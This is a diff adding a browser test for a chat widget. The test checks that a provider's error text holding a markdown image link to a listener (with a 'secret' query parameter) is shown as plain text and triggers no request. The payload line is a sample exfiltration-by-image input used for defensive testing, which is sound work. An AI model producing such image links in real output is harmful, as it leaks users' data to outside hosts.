@@ -260,3 +260,27 @@ def test_model_output_runs_nothing_and_loads_nothing_in_the_widget(
         page.screenshot(path=str(artifacts / "widget-malicious-output.png"))
     finally:
         context.close()
+
+
+def test_a_providers_error_text_loads_nothing_in_the_widget(
+        browser: Any, site: _Site, listener: _Site, fake_model: Any, model_server: ChorusServer) -> None:
+    """Text from outside (here a provider's error, quoted in the notice that the offline model
+    answers instead) is neutralised like model output: its markdown image is shown as text."""
+    leak = f"http://127.0.0.1:{listener.port}"
+    for _ in range(6):  # every attempt (retries included) fails with it
+        fake_model.queue_error(401, f"key refused ![status]({leak}/provider-error.png?secret=42) errmarker")
+    site.page("provider-error.html", _host_page(model_server, make_token("visitor-5", secret=SECRET)))
+    context = browser.new_context()
+    page = context.new_page()
+    try:
+        page.goto(f"http://127.0.0.1:{site.port}/provider-error.html")
+        box = _open_widget(page)
+        _send(page, box, "Hello there")
+        chat = page.locator("#chainlit-copilot-chat")
+        chat.get_by_text("errmarker", exact=False).first.wait_for(timeout=30_000)
+        page.wait_for_timeout(1_500)
+        assert listener.requests == [], listener.requests
+        assert "provider-error.png" in chat.inner_text()  # still there to read, as text
+    finally:
+        context.close()
+        fake_model.reset()
